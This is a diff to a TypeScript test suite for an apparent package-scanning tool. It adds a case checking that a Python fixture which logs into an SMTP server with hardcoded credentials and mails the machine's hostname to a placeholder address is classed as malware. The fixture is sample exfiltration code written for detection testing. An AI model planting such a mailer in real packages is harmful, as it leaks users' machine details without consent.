@@ -1338,3 +1338,21 @@ test.each([
 
   expect(await inspect('exfiltration', file)).toMatchObject([{ message: `Sends ${name} to api.archive.invalid.` }]);
 });
+
+test('names of a machine in the mailbox of the author are found; a mailer that its user signs in with is a note', async () => {
+  const mailer = (login: string): string =>
+    python(
+      'import smtplib, socket',
+      'def notify(user=None, password=None):',
+      "    line = smtplib.SMTP('smtp.gmail.com', 587)",
+      `    line.login(${login})`,
+      "    line.sendmail('a@mail.invalid', 'b@mail.invalid', socket.gethostname())",
+    );
+
+  expect(await inspect('exfiltration', wheel({ 'pkg/a.py': mailer("'a@mail.invalid', 'aaaa bbbb'") }))).toMatchObject([
+    { class: 'malware', score: 9, context: 'call', line: 5 },
+  ]);
+  expect(await inspect('exfiltration', wheel({ 'pkg/a.py': mailer('user, password') }))).toMatchObject([
+    { class: 'note', score: 1 },
+  ]);
+});
